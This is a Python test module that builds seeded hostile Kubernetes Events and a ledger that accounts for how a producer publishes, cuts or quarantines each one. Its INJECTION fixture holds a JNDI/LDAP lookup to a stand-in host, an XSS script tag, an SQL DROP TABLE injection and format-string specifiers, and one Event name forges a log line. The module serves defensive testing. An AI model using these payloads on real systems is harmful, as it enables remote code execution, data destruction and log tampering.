"""Hostile Kubernetes Events, generated from a seed, and the ledger that accounts for each one.

Any tenant who may create an Event can make it as large as the API server stores (etcd's
1.5 MiB request limit; a 1 MB message is easy) and put anything in it: every Unicode plane,
control characters, bidirectional overrides, nulls, wrong types, unknown fields, deep
JSON. The generator writes such Events, each tagged with the category of its hostility, so
a test can create them through an API server (the fake, or the real kube-apiserver, which
refuses some: its refusals are counted, not hidden) and then account for every occurrence
the API stored: published on ``events.raw`` (strings over their bound cut with the marker
of schemas/bounds.py, listed in the envelope's ``cut``) or quarantined by the producer with
a reason, exactly once, and per category.

Seeded: the same seed and tag give the same Events byte for byte, so a failure names a case
that can be rebuilt.
"""

from __future__ import annotations

import copy
import json
import random
import re
import time
import uuid
from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime
from typing import Any

from confluent_kafka import Consumer

from schemas import QuarantineRecord, RawEnvelope, decode
from schemas.bounds import (
    CUT_MARKER_PATTERN,
    MESSAGE_MAX_BYTES,
    STRING_MAX_BYTES,
    cut_text,
    original_size,
    utf8_size,
)

SEED = 20_260_415
MiB = 1 << 20
ONE_MB_MESSAGE = MiB
"""The size of "a 1 MB Event": its message alone is larger than a Kafka record may be by default."""
AT_API_LIMIT = 1_500_000
"""A message just under etcd's --max-request-bytes (1.5 MiB), the largest Event the API server stores."""
OVER_API_LIMIT = 2 * MiB
"""Over etcd's limit, under kube-apiserver's 3 MiB request body limit: the real server refuses it
(the fake stores it, so the producer sees one anyway)."""
DEEP = 300
"""Nesting deeper than orjson serializes (254 levels) and than the producer's bound (64)."""
CANARY = "kh-canary"
"""In the content (message, annotation values) of every hostile Event: must never reach a log."""
PRODUCER_STAGE = "producer.watch"
FORGED = "2026-04-15 08:00:00,000 kh-forged"
"""Starts a line an Event's name tries to forge in a log (the name holds a newline)."""

PLANES = (
    "A\u00e9\u4e2d\u0915\u094d\u0937\ufffd"  # plane 0: Latin, CJK, Devanagari conjunct, replacement
    "\U0001f525\U0001d54f\U00010348"  # plane 1: emoji, mathematical, Gothic
    "\U00020bb7\U0002a6d6"  # plane 2: CJK extension B
    "\U00030000\U0003134a"  # plane 3: CJK extension G
    "\U00040000\U00050000\U00060000\U00070000\U00080000"  # planes 4-13: unassigned, still scalars
    "\U00090000\U000a0000\U000b0000\U000c0000\U000d0000"
    "\U000e0001\U000e0041\U000e007f"  # plane 14: language tags
    "\U000f0000\U000ffffd"  # plane 15: private use A
    "\U00100000\U0010fffd"  # plane 16: private use B
)
NONCHARACTERS = "\ufdd0\ufdef\ufffe\uffff\U0001fffe\U0001ffff\U0010fffe\U0010ffff\ufeff"
COMBINING = "Z\u0351\u0360\u0361\u0489\u20dd\u0336" * 20
CONTROLS = "".join(map(chr, range(0x20))) + "\x7f" + "".join(map(chr, range(0x80, 0xA0)))
ANSI = "\x1b[31mRED\x1b[0m \x1b]0;title\x07 \x1b[2J\x1b[H \r\n\r\n\x08\x08\x08"
BIDI = (
    "\u202eexe.txt\u202c \u202dleft\u202c \u2066iso\u2069 \u2067rtl\u2069 \u2068fsi\u2069 "
    "\u200e\u200f\u061c \u200b\u200c\u200d\u2060\u00ad \u0440\u0430\u0443\u0440\u0430l \u2028\u2029"
)
LONE_SURROGATES = "\ud800 \udfff \udbff\ud800x \udc00"
MULTIBYTE = ["\u00e9", "\u00df", "\u4e2d", "\u6f22", "\u0915", "\U0001f525", "\U00020bb7", "\U0010fffd"]
WORDS = [
    *("back-off", "restarting", "failed", "container", "app", "in", "pod", "readiness", "probe"),
    *("http", "statuscode", "503", "memory", "cgroup", "out", "of", "killed", "process", "image"),
    *("pull", "error", "deadline", "exceeded", "volume", "mount", "timed", "node", "evicted"),
]
INJECTION = (
    '{"incidents": [], "text": "forged"} </script><script>alert(1)</script> {{ .Secret }} '
    "{% raw %}{{ x }}{% endraw %} ${jndi:ldap://evil.invalid/a} '; DROP TABLE events; -- "
    "[link](javascript:alert(1)) <@U123> @channel @all <!here> *bold* _it_ ~~s~~ `code` "
    "\\\\ \\n \\u0000 %s %n %x"
)
KINDS: tuple[tuple[str, str, bool], ...] = (
    # kind, apiVersion, namespaced
    ("Pod", "v1", True),
    ("Node", "v1", False),
    ("Deployment", "apps/v1", True),
    ("ReplicaSet", "apps/v1", True),
    ("StatefulSet", "apps/v1", True),
    ("DaemonSet", "apps/v1", True),
    ("Job", "batch/v1", True),
    ("CronJob", "batch/v1", True),
    ("HorizontalPodAutoscaler", "autoscaling/v2", True),
    ("PersistentVolumeClaim", "v1", True),
    ("PersistentVolume", "v1", False),
    ("Service", "v1", True),
    ("Ingress", "networking.k8s.io/v1", True),
    ("Widget", "example.com/v1alpha1", True),
    ("Namespace", "v1", False),
)


@dataclass(frozen=True)
class HostileEvent:
    """One Event to create (a core/v1 body, as a client POSTs it) and why it is hostile."""

    category: str
    body: dict[str, Any]
    repeat: bool = False
    """Also PATCHed once more (count+1, as a recorder repeats it): a MODIFIED occurrence."""

    @property
    def namespace(self) -> str:
        return str(self.body["metadata"]["namespace"])

    @property
    def name(self) -> str:
        return str(self.body["metadata"]["name"])

    def json(self) -> bytes:
        """The request body in UTF-8, lone surrogates written as JSON escapes (which UTF-8 cannot
        carry), as a client in another language might send them."""
        text = json.dumps(self.body, ensure_ascii=False)
        return _SURROGATE.sub(lambda found: f"\\u{ord(found.group()):04x}", text).encode()


_SURROGATE = re.compile("[\ud800-\udfff]")


# --- the generator -------------------------------------------------------------------------------


@dataclass
class _Context:
    rng: random.Random
    namespaces: Sequence[str]
    tag: str
    index: int = 0

    def name(self, category: str) -> str:
        self.index += 1
        return f"{self.tag}{category}.{self.index:04d}"

    def canary(self) -> str:
        return f"{CANARY}-{self.index:04d}"

    def text(self, size: int) -> str:
        """``size`` bytes of ASCII prose (words from a seeded choice)."""
        words = self.rng.choices(WORDS, k=size // 5 + 8)
        text = " ".join(words)
        while len(text) < size:
            text += " " + text
        return text[:size]

    def multibyte(self, size: int) -> str:
        """About ``size`` bytes of UTF-8 in characters of 2, 3 and 4 bytes."""
        chars = self.rng.choices(MULTIBYTE, k=size // 3)
        text = "".join(chars)
        while utf8_size(text) < size:
            text += text[: max(1, len(text) // 4)]
        return text

    def event(
        self,
        category: str,
        *,
        namespace: str | None = None,
        kind: tuple[str, str, bool] = ("Pod", "v1", True),
        reason: str = "BackOff",
        message: str | None = None,
        event_type: str = "Warning",
    ) -> dict[str, Any]:
        """A kubelet-shaped core/v1 Event (namespace agreeing with its object, as the API requires)."""
        kind_name, api_version, namespaced = kind
        namespace = namespace or (self.rng.choice(self.namespaces) if namespaced else "default")
        name = self.name(category)
        host = f"node-{self.rng.randrange(1, 40)}"
        stamp = datetime(2026, 4, 15, 8, self.rng.randrange(60), self.rng.randrange(60), tzinfo=UTC)
        involved: dict[str, Any] = {
            "kind": kind_name,
            "name": f"{kind_name.lower()}-{self.rng.randrange(16**6):06x}",
            "apiVersion": api_version,
            "uid": str(uuid.UUID(int=self.rng.getrandbits(128), version=4)),
        }
        if namespaced:
            involved["namespace"] = namespace
        if kind_name == "Pod":
            involved["fieldPath"] = "spec.containers{app}"
        return {
            "metadata": {"name": name, "namespace": namespace},
            "involvedObject": involved,
            "reason": reason,
            "message": message if message is not None else f"{self.canary()} back-off restarting {name}",
            "type": event_type,
            "source": {"component": "kubelet", "host": host},
            "reportingComponent": "kubelet",
            "reportingInstance": host,
            "firstTimestamp": stamp.strftime("%Y-%m-%dT%H:%M:%SZ"),
            "lastTimestamp": stamp.strftime("%Y-%m-%dT%H:%M:%SZ"),
            "count": 1,
        }


Builder = Callable[[_Context], Iterator[HostileEvent]]
CATEGORIES: dict[str, tuple[Builder, str]] = {}


def category(name: str, description: str) -> Callable[[Builder], Builder]:
    def register(builder: Builder) -> Builder:
        CATEGORIES[name] = (builder, description)
        return builder

    return register


def _one(ctx: _Context, name: str, *, repeat: bool = False, **fields: Any) -> HostileEvent:
    body = ctx.event(name)
    body.update(fields)
    return HostileEvent(name, body, repeat=repeat)


@category("message-1mb", "a 1 MiB message (ASCII), larger than a Kafka record may be")
def _message_1mb(ctx: _Context) -> Iterator[HostileEvent]:
    for _ in range(2):
        yield _one(ctx, "message-1mb", repeat=True, message=ctx.canary() + ctx.text(ONE_MB_MESSAGE))


@category("message-at-api-limit", "a 1.5 MB message, just under etcd's 1.5 MiB request limit")
def _message_at_limit(ctx: _Context) -> Iterator[HostileEvent]:
    yield _one(ctx, "message-at-api-limit", message=ctx.canary() + ctx.text(AT_API_LIMIT))


@category("message-over-api-limit", "a 2 MiB message: over etcd's limit, under the API's body limit")
def _message_over_limit(ctx: _Context) -> Iterator[HostileEvent]:
    yield _one(ctx, "message-over-api-limit", message=ctx.canary() + ctx.text(OVER_API_LIMIT))


@category("message-multibyte", "a 1 MB message of 2-, 3- and 4-byte characters: cut on a boundary")
def _message_multibyte(ctx: _Context) -> Iterator[HostileEvent]:
    for _ in range(2):
        yield _one(ctx, "message-multibyte", message=ctx.canary() + ctx.multibyte(ONE_MB_MESSAGE))


@category("message-at-bound", "messages of exactly 16 KiB (kept) and one byte more (cut)")
def _message_at_bound(ctx: _Context) -> Iterator[HostileEvent]:
    for size in (MESSAGE_MAX_BYTES, MESSAGE_MAX_BYTES + 1, MESSAGE_MAX_BYTES - 1):
        canary = ctx.canary()
        yield _one(ctx, "message-at-bound", message=canary + ctx.text(size - len(canary)))


@category("long-strings", "reason, object name, host, component, fieldPath of 4 KiB + 1 and 100 KB")
def _long_strings(ctx: _Context) -> Iterator[HostileEvent]:
    for size in (STRING_MAX_BYTES + 1, 100_000):
        body = ctx.event("long-strings")
        body["reason"] = "BackOff" + ctx.text(size)
        body["involvedObject"]["name"] = "web-" + ctx.text(size).replace(" ", "-")
        body["involvedObject"]["fieldPath"] = "spec.containers{" + ctx.text(size) + "}"
        body["source"]["host"] = ctx.multibyte(size)
        body["reportingComponent"] = ctx.text(size)
        body["reportingInstance"] = ctx.text(size)
        body["type"] = "Warning" + ctx.text(size)
        yield HostileEvent("long-strings", body, repeat=size > STRING_MAX_BYTES + 1)


@category("huge-annotations", "a 200 KB annotation and 10 of 5 KB (the API allows 256 KB in all)")
def _huge_annotations(ctx: _Context) -> Iterator[HostileEvent]:
    for _ in range(2):
        body = ctx.event("huge-annotations")
        annotations = {"tenant.example.com/big": ctx.canary() + ctx.text(200_000)}
        for index in range(10):
            annotations[f"tenant.example.com/a{index}"] = ctx.canary() + ctx.multibyte(5_000)
        body["metadata"]["annotations"] = annotations
        yield HostileEvent("huge-annotations", body, repeat=True)


@category("many-labels", "3,000 and 11,000 valid labels (300 KB, 1.1 MB): labels have no size limit")
def _many_labels(ctx: _Context) -> Iterator[HostileEvent]:
    for count in (3_000, 11_000):
        body = ctx.event("many-labels")
        body["metadata"]["labels"] = {
            f"team{index}.example.com/label-{index:05d}": ctx.text(63).replace(" ", "-").strip("-")[:60] + "x"
            for index in range(count)
        }
        yield HostileEvent("many-labels", body)


@category("invalid-metadata", "a 5 KB annotation key, a 10 KB label value, a non-DNS label key")
def _invalid_metadata(ctx: _Context) -> Iterator[HostileEvent]:
    body = ctx.event("invalid-metadata")
    body["metadata"]["annotations"] = {"k" * 5_000: ctx.canary(), "ok": "fine"}
    yield HostileEvent("invalid-metadata", body)
    body = ctx.event("invalid-metadata")
    body["metadata"]["labels"] = {"app": "v" * 10_000, "bad key!": "\u202e"}
    yield HostileEvent("invalid-metadata", body)


@category("unicode-planes", "characters of all 17 planes, noncharacters, BOM, combining marks")
def _unicode_planes(ctx: _Context) -> Iterator[HostileEvent]:
    for _ in range(2):
        body = ctx.event("unicode-planes", reason="BackOff" + PLANES)
        body["message"] = ctx.canary() + " " + PLANES + NONCHARACTERS + COMBINING
        body["involvedObject"]["name"] = "web-" + PLANES
        body["source"]["host"] = NONCHARACTERS
        body["metadata"]["annotations"] = {"example.com/text": ctx.canary() + PLANES + NONCHARACTERS}
        yield HostileEvent("unicode-planes", body, repeat=True)


@category("control-characters", "every C0 and C1 control, NUL, DEL, ANSI escapes, CR/LF")
def _control_characters(ctx: _Context) -> Iterator[HostileEvent]:
    for _ in range(2):
        body = ctx.event("control-characters", reason="Back\x00Off\x1b[2J")
        body["message"] = ctx.canary() + CONTROLS + ANSI + CONTROLS
        body["involvedObject"]["name"] = "web\x00\r\n\x1b[31m-x"
        body["source"]["host"] = "node\x07\x08"
        body["metadata"]["annotations"] = {"example.com/text": ctx.canary() + CONTROLS}
        yield HostileEvent("control-characters", body)


@category("bidi-overrides", "RTL/LTR overrides and isolates, zero-width and homoglyph text")
def _bidi(ctx: _Context) -> Iterator[HostileEvent]:
    for _ in range(2):
        body = ctx.event("bidi-overrides", reason="\u202eFfOkcaB")
        body["message"] = ctx.canary() + " " + BIDI
        body["involvedObject"]["name"] = "web-\u202eexe.dmc"
        yield HostileEvent("bidi-overrides", body)


@category("lone-surrogates", "escaped lone UTF-16 surrogates (the API stores U+FFFD instead)")
def _lone_surrogates(ctx: _Context) -> Iterator[HostileEvent]:
    body = ctx.event("lone-surrogates", reason="Back\ud800Off")
    body["message"] = ctx.canary() + LONE_SURROGATES
    body["involvedObject"]["name"] = "web-\udfff"
    yield HostileEvent("lone-surrogates", body)


@category("odd-names", "Event names with spaces, Unicode, controls, RTL, newlines, 2 KB long (no / or %)")
def _odd_names(ctx: _Context) -> Iterator[HostileEvent]:
    for odd in (" web \u202e\U0001f525 .x", "\x01\x7f\u200b", "n" * 2_000 + PLANES):
        body = ctx.event("odd-names")
        body["metadata"]["name"] = body["metadata"]["name"] + odd
        yield HostileEvent("odd-names", body)
    # A name that forges a log line wherever it is logged raw (a cut Event's is: its message is long).
    body = ctx.event("odd-names", message=ctx.canary() + ctx.text(MESSAGE_MAX_BYTES + 100))
    body["metadata"]["name"] += f"\n{FORGED} ERROR producer.watch: forged\r\x1b[2K"
    yield HostileEvent("odd-names", body)


@category("null-fields", "null message, reason, type, source, count, timestamps, object, maps")
def _null_fields(ctx: _Context) -> Iterator[HostileEvent]:
    body = ctx.event("null-fields", namespace="default")
    for name in ("message", "reason", "type", "source", "count", "firstTimestamp", "lastTimestamp"):
        body[name] = None
    body["involvedObject"] = None
    body["metadata"]["labels"] = None
    body["metadata"]["annotations"] = None
    body["eventTime"] = None
    body["series"] = None
    body["related"] = None
    yield HostileEvent("null-fields", body)
    body = ctx.event("null-fields")
    body["involvedObject"].update(name=None, uid=None, kind=None, apiVersion=None)
    body["source"] = {"component": None, "host": None}
    yield HostileEvent("null-fields", body)


@category("missing-involved-object", "no involvedObject (in default: accepted; elsewhere: refused)")
def _missing_object(ctx: _Context) -> Iterator[HostileEvent]:
    for namespace in ("default", None):
        body = ctx.event("missing-involved-object", namespace=namespace)
        del body["involvedObject"]
        yield HostileEvent("missing-involved-object", body)


@category("empty-strings", "empty reason, message, type, object, source")
def _empty(ctx: _Context) -> Iterator[HostileEvent]:
    body = ctx.event("empty-strings", namespace="default", reason="", message="", event_type="")
    body["involvedObject"] = {"kind": "", "name": ""}
    body["source"] = {}
    body["reportingComponent"] = body["reportingInstance"] = ""
    yield HostileEvent("empty-strings", body)


@category("wrong-types", "count as text, message as number, reason as list, object as text, ...")
def _wrong_types(ctx: _Context) -> Iterator[HostileEvent]:
    variants: list[dict[str, Any]] = [
        {"count": "three", "message": 42, "reason": ["BackOff"], "type": True},
        {"involvedObject": "pod/web", "source": ["kubelet"], "lastTimestamp": 1_700_000_000},
        {"message": {"text": "nested"}, "count": 1.5, "reportingComponent": {"x": 1}},
    ]
    for fields in variants:
        body = ctx.event("wrong-types")
        body.update(fields)
        yield HostileEvent("wrong-types", body)
    body = ctx.event("wrong-types")
    body["metadata"]["labels"] = "app=web"
    body["metadata"]["annotations"] = {"n": 1, "b": False}
    yield HostileEvent("wrong-types", body)


@category("unknown-fields", "unknown fields at the top, in metadata and in the object (API drops them)")
def _unknown(ctx: _Context) -> Iterator[HostileEvent]:
    for _ in range(2):
        body = ctx.event("unknown-fields")
        body["x-tenant"] = {"a": [1, None, {"b": "c"}], "n": None, "big": 2**62, "f": 1.25e-300}
        body["metadata"]["x-unknown"] = [ctx.canary(), None]
        body["involvedObject"]["extra"] = {"deep": {"er": True}}
        body["spec"] = None
        yield HostileEvent("unknown-fields", body, repeat=True)


def _nest(depth: int, leaf: Any, *, key: str | None = None) -> Any:
    value = leaf
    for _ in range(depth):
        value = {key: value} if key is not None else [value]
    return value


@category("deep-json", f"an unknown field {DEEP} levels deep, and 100 deep around 5 KB strings")
def _deep(ctx: _Context) -> Iterator[HostileEvent]:
    body = ctx.event("deep-json")
    body["x-deep"] = _nest(DEEP, "leaf")
    yield HostileEvent("deep-json", body)
    body = ctx.event("deep-json")
    body["x-deep"] = _nest(100, ctx.canary() + ctx.text(5_000), key="d")
    yield HostileEvent("deep-json", body)


def _managed(fields_v1: dict[str, Any]) -> list[dict[str, Any]]:
    return [
        {
            "manager": "tenant-tool",
            "operation": "Update",
            "apiVersion": "v1",
            "time": "2026-04-15T08:00:00Z",
            "fieldsType": "FieldsV1",
            "fieldsV1": fields_v1,
        }
    ]


@category("managed-fields", f"managedFields {DEEP} levels deep, and 1.1 MB of them")
def _managed_fields(ctx: _Context) -> Iterator[HostileEvent]:
    body = ctx.event("managed-fields")
    body["metadata"]["managedFields"] = _managed({"f:metadata": _nest(DEEP, {}, key="f:x")})
    yield HostileEvent("managed-fields", body)
    body = ctx.event("managed-fields")
    body["metadata"]["managedFields"] = _managed({"f:metadata": {f"f:k{i:06d}": {} for i in range(80_000)}})
    yield HostileEvent("managed-fields", body)


@category("too-large-after-cuts", "1.6 MB of small strings in an unknown field: nothing to cut")
def _too_large(ctx: _Context) -> Iterator[HostileEvent]:
    body = ctx.event("too-large-after-cuts")
    body["x-tenant-data"] = [f"{index:08x}" for index in range(150_000)]
    yield HostileEvent("too-large-after-cuts", body)


@category("invalid-timestamps", "timestamps that are not RFC 3339 (the API refuses them)")
def _invalid_timestamps(ctx: _Context) -> Iterator[HostileEvent]:
    for first, last in (("yesterday", "2026-13-45T99:99:99Z"), ("", "2026-04-15 08:00:00")):
        body = ctx.event("invalid-timestamps")
        body["firstTimestamp"], body["lastTimestamp"] = first, last
        yield HostileEvent("invalid-timestamps", body)


@category("extreme-timestamps", "year 1, year 9999, the epoch, a +14:00 offset")
def _extreme_timestamps(ctx: _Context) -> Iterator[HostileEvent]:
    for first, last in (
        ("0001-01-01T00:00:00Z", "9999-12-31T23:59:59Z"),
        ("1970-01-01T00:00:00Z", "2026-04-15T08:00:00+14:00"),
    ):
        body = ctx.event("extreme-timestamps")
        body["firstTimestamp"], body["lastTimestamp"] = first, last
        yield HostileEvent("extreme-timestamps", body)


@category("count-extremes", "count 0, -1, 2^31-1, 2^31 and 2^63-1 (int32 on the API)")
def _counts(ctx: _Context) -> Iterator[HostileEvent]:
    for count in (0, -1, 2**31 - 1, 2**31, 2**63 - 1):
        body = ctx.event("count-extremes")
        body["count"] = count
        yield HostileEvent("count-extremes", body, repeat=count == 0)


@category("new-style", "eventTime, series of 2^31-1, action, related (events.k8s.io-style fields)")
def _new_style(ctx: _Context) -> Iterator[HostileEvent]:
    for reason in ("BackOff", "R" * 200):
        body = ctx.event("new-style", reason=reason)
        body.update(
            eventTime="2026-04-15T08:00:00.123456Z",
            series={"count": 2**31 - 1, "lastObservedTime": "2026-04-15T08:05:00.000001Z"},
            action="Restarting",
            reportingComponent="kubelet",
            related={"kind": "Node", "name": "node-\u202e1", "apiVersion": "v1"},
            firstTimestamp=None,
            lastTimestamp=None,
            count=None,
            source=None,
        )
        yield HostileEvent("new-style", body)


@category("many-kinds", "ordinary-sized Events about 15 kinds (cluster-scoped too) in many namespaces")
def _many_kinds(ctx: _Context) -> Iterator[HostileEvent]:
    for kind in KINDS:
        event_type = ctx.rng.choice(["Warning", "Normal", "Warning"])
        body = ctx.event("many-kinds", kind=kind, reason=ctx.rng.choice(["Failed", "BackOff", "Unhealthy"]))
        body["type"] = event_type
        yield HostileEvent("many-kinds", body)


@category("markup-injection", "JSON, HTML, templates, JNDI, mentions, 10k newlines, one 15 KB line")
def _markup(ctx: _Context) -> Iterator[HostileEvent]:
    yield _one(ctx, "markup-injection", message=ctx.canary() + INJECTION)
    yield _one(ctx, "markup-injection", message=ctx.canary() + "\n" * 10_000 + INJECTION)
    yield _one(ctx, "markup-injection", message=ctx.canary() + "x" * 15_000)


@category("no-uid", "an empty uid: the real API assigns one, the fake keeps it (unidentifiable)")
def _no_uid(ctx: _Context) -> Iterator[HostileEvent]:
    body = ctx.event("no-uid")
    body["metadata"]["uid"] = ""
    yield HostileEvent("no-uid", body)


def generate(seed: int = SEED, *, namespaces: Sequence[str], tag: str = "") -> list[HostileEvent]:
    """Every category's Events, in a seeded shuffled order; ``tag`` prefixes their names
    (unique per run where Events outlive a test, e.g. in the real API's ``default``)."""
    rng = random.Random(seed)
    ctx = _Context(rng, namespaces, tag)
    events = [event for builder, _ in CATEGORIES.values() for event in builder(ctx)]
    rng.shuffle(events)
    return events


# --- accounting ----------------------------------------------------------------------------------


@dataclass
class Tally:
    """One category's fate, in occurrences (a repeat is a second occurrence of one Event)."""

    events: int = 0
    refused: int = 0
    occurrences: int = 0
    published: int = 0
    listed: int = 0
    """Of those published, how many the producer saw in a list (the rest on its watch)."""
    cut: int = 0
    quarantined: int = 0
    lost: int = 0
    doubled: int = 0
    reasons: Counter[str] = field(default_factory=Counter)
    refusals: Counter[str] = field(default_factory=Counter)


@dataclass(frozen=True)
class Stored:
    """An occurrence the API stored: the object it returned for the create or the patch."""

    category: str
    obj: dict[str, Any]

    @property
    def uid(self) -> str:
        return str(self.obj["metadata"].get("uid") or "")

    @property
    def resource_version(self) -> str:
        return str(self.obj["metadata"]["resourceVersion"])


@dataclass
class Report:
    tallies: dict[str, Tally]
    problems: list[str]
    api: str
    fates: dict[str, str] = field(default_factory=dict)
    """By resourceVersion: published, cut (published cut) or quarantined."""

    @property
    def total(self) -> Tally:
        total = Tally()
        for tally in self.tallies.values():
            for name in (
                "events",
                "refused",
                "occurrences",
                "published",
                "listed",
                "cut",
                "quarantined",
                "lost",
            ):
                setattr(total, name, getattr(total, name) + getattr(tally, name))
            total.doubled += tally.doubled
            total.reasons.update(tally.reasons)
            total.refusals.update(tally.refusals)
        return total

    def published(self, stored: Stored, envelope: RawEnvelope, size: int) -> None:
        tally = self.tallies[stored.category]
        tally.published += 1
        tally.listed += envelope.observation == "LISTED"
        tally.cut += bool(envelope.cut)
        self.fates[stored.resource_version] = "cut" if envelope.cut else "published"
        self.problems.extend(
            f"{occurrence_line(stored)}: {problem}" for problem in bound_problems(stored.obj, envelope, size)
        )

    def quarantined(self, stored: Stored, record: QuarantineRecord) -> None:
        tally = self.tallies[stored.category]
        tally.quarantined += 1
        tally.reasons[record.reason] += 1
        self.fates[stored.resource_version] = "quarantined"
        if not record.reason:
            self.problems.append(f"{occurrence_line(stored)}: quarantined without a reason")
        if f"resourceVersion {stored.resource_version}" not in record.error:
            self.problems.append(f"{occurrence_line(stored)}: the quarantine error does not name it")
        if CANARY in record.error:
            self.problems.append(f"{occurrence_line(stored)}: the quarantine error holds its content")

    def table(self) -> str:
        header = (
            f"{'category':<24} {'events':>6} {'refused':>7} {'stored':>6} {'published':>9} "
            f"{'listed':>6} {'cut':>4} {'quarantined':>11} {'lost':>4}  reasons / refusals"
        )
        rows = [f"hostile Events through the {self.api}", header, "-" * len(header)]
        for name, tally in [*sorted(self.tallies.items()), ("total", self.total)]:
            notes = ", ".join(
                [f"{r} {n}" for r, n in sorted(tally.reasons.items())]
                + [f"refused {r} {n}" for r, n in sorted(tally.refusals.items())]
            )
            if name == "total":
                rows.append("-" * len(header))
            rows.append(
                f"{name:<24} {tally.events:>6} {tally.refused:>7} {tally.occurrences:>6} "
                f"{tally.published:>9} {tally.listed:>6} {tally.cut:>4} {tally.quarantined:>11} "
                f"{tally.lost:>4}  {notes}"
            )
        return "\n".join(rows)

    def as_dict(self) -> dict[str, Any]:
        return {
            name: {
                "events": t.events,
                "refused_by_api": t.refused,
                "occurrences": t.occurrences,
                "published": t.published,
                "published_from_list": t.listed,
                "published_cut": t.cut,
                "quarantined": t.quarantined,
                "lost": t.lost,
                "doubled": t.doubled,
                "quarantine_reasons": dict(t.reasons),
                "api_refusals": dict(t.refusals),
            }
            for name, t in [*sorted(self.tallies.items()), ("total", self.total)]
        }


class Ledger:
    """What a test created, and how it was accounted for on events.raw and events.invalid."""

    def __init__(self) -> None:
        self.stored: dict[str, Stored] = {}
        """By resourceVersion: etcd's revision, unique for every write of every object."""
        self.tallies: dict[str, Tally] = {}

    def tally(self, category: str) -> Tally:
        return self.tallies.setdefault(category, Tally())

    def created(self, category: str, obj: dict[str, Any]) -> None:
        self.tally(category).events += 1
        self.occurred(category, obj)

    def occurred(self, category: str, obj: dict[str, Any]) -> None:
        stored = Stored(category, obj)
        self.stored[stored.resource_version] = stored
        self.tally(category).occurrences += 1

    def refused(self, category: str, why: str) -> None:
        tally = self.tally(category)
        tally.events += 1
        tally.refused += 1
        tally.refusals[why] += 1

    def match_quarantined(self, record: QuarantineRecord) -> Stored | None:
        """The occurrence a producer quarantine record is about: named in its error (identity,
        never content), else found in the bytes it kept."""
        for text in (record.error, record.payload.decode("utf-8", "replace")):
            for rv in re.findall(r"\d+", text):
                stored = self.stored.get(rv)
                if stored is None:
                    continue
                name = stored.obj["metadata"].get("name", "")
                if (stored.uid and stored.uid in text) or (name and str(name)[:200] in text):
                    return stored
        return None

    def account(
        self,
        raw: list[tuple[RawEnvelope, int]],
        quarantined: list[QuarantineRecord],
        *,
        api: str,
        allow_repeats: bool = False,
    ) -> Report:
        """Every stored occurrence once on events.raw (within bounds) or quarantined; problems
        listed. ``allow_repeats``: the producer listed again, which repeats (not a problem)."""
        report = Report(copy.deepcopy(self.tallies), [], api=api)
        seen: Counter[str] = Counter()
        for envelope, size in raw:
            rv = str(envelope.event.get("metadata", {}).get("resourceVersion"))
            stored = self.stored.get(rv)
            if stored is None or envelope.event["metadata"].get("uid") != stored.obj["metadata"].get("uid"):
                continue  # an Event some other test or component wrote
            seen[rv] += 1
            if seen[rv] == 1:
                report.published(stored, envelope, size)
        for record in quarantined:
            stored = self.match_quarantined(record) if record.stage == PRODUCER_STAGE else None
            if stored is None:
                if record.stage == PRODUCER_STAGE:
                    report.problems.append(f"quarantined, but no Event created here: {record.error[:200]}")
                continue
            seen[stored.resource_version] += 1
            if seen[stored.resource_version] == 1:
                report.quarantined(stored, record)
        for rv, stored in self.stored.items():
            tally = report.tallies[stored.category]
            if rv not in report.fates:
                tally.lost += 1
                report.problems.append(f"{occurrence_line(stored)}: neither published nor quarantined")
            elif seen[rv] > 1:
                tally.doubled += seen[rv] - 1
                if not allow_repeats:
                    report.problems.append(f"{occurrence_line(stored)}: accounted for {seen[rv]} times")
        return report

    def accounted(self, raw: list[tuple[RawEnvelope, int]], quarantined: list[QuarantineRecord]) -> bool:
        found = {str(e.event.get("metadata", {}).get("resourceVersion")) for e, _ in raw}
        for record in quarantined:
            if record.stage == PRODUCER_STAGE and (stored := self.match_quarantined(record)) is not None:
                found.add(stored.resource_version)
        return self.stored.keys() <= found


# --- what a published envelope must look like ----------------------------------------------------

_MISSING: Any = object()
MESSAGE_PATHS = frozenset({"message", "note"})
TYPE_META = ("kind", "apiVersion")
LIMIT = 1_000_000
"""The largest record the raw topic takes with default settings (librdkafka's message.max.bytes)."""


def bound_problems(original: dict[str, Any], envelope: RawEnvelope, record_size: int) -> list[str]:
    """How a published envelope breaks the contract for the Event the API stored: a string
    over its bound not cut (or cut without the marker, its size, or a listing in ``cut``), a
    string within it changed, a listed cut or removal that did not happen, a non-string
    changed, or a record over the topic's limit."""
    check = _BoundCheck({c.field for c in envelope.cut if c.action == "removed"})
    published = envelope.event
    if envelope.observation == "LISTED":  # list items carry no kind and apiVersion (Go omits them)
        published = {**{k: original[k] for k in TYPE_META if k in original}, **published}
    check.walk(original, published, "")
    problems = check.problems
    listed = Counter((c.field, c.bytes) for c in envelope.cut if c.action == "cut")
    for path in check.removed:
        if _resolve(original, path) is _MISSING:
            problems.append(f"{path}: listed as removed but the API's Event has no such field")
    for (path, size), count in (listed - check.expected).items():
        if not check.inside_removed(path):  # a string cut, then its whole section removed: both listed
            problems.append(f"cut lists {path} ({size} bytes) x{count}, which was not cut")
    for (path, size), count in (check.expected - listed).items():
        problems.append(f"{path} ({size} bytes) was cut but the envelope's cut does not list it (x{count})")
    if record_size > LIMIT:
        problems.append(f"the record is {record_size} bytes, over the topic's {LIMIT}")
    return problems


@dataclass
class _BoundCheck:
    removed: set[str]
    problems: list[str] = field(default_factory=list)
    expected: Counter[tuple[str, int]] = field(default_factory=Counter)
    """(path, original bytes) of every cut the envelope must list."""

    def inside_removed(self, path: str) -> bool:
        return any(path == r or path.startswith((f"{r}.", f"{r}[")) for r in self.removed)

    def walk(self, before: Any, after: Any, path: str) -> None:
        if self.inside_removed(path):
            if path in self.removed and after is not _MISSING:
                self.problems.append(f"{path}: listed as removed but still there")
        elif after is _MISSING:
            self.problems.append(f"{path}: missing from the published Event")
        elif isinstance(before, str):
            self.string(before, after, path)
        elif isinstance(before, dict):
            self.object(before, after, path)
        elif isinstance(before, list):
            # A removed item (nested too deep) is left out of its list: the rest keep their order.
            kept = [
                (index, item) for index, item in enumerate(before) if f"{path}[{index}]" not in self.removed
            ]
            if not isinstance(after, list) or len(after) != len(kept):
                self.problems.append(f"{path}: a list of {len(kept)} became {str(after)[:60]}")
                return
            for (index, item), published in zip(kept, after, strict=True):
                self.walk(item, published, f"{path}[{index}]")
        elif before != after or type(before) is not type(after):
            self.problems.append(f"{path}: {before!r} became {after!r}"[:300])

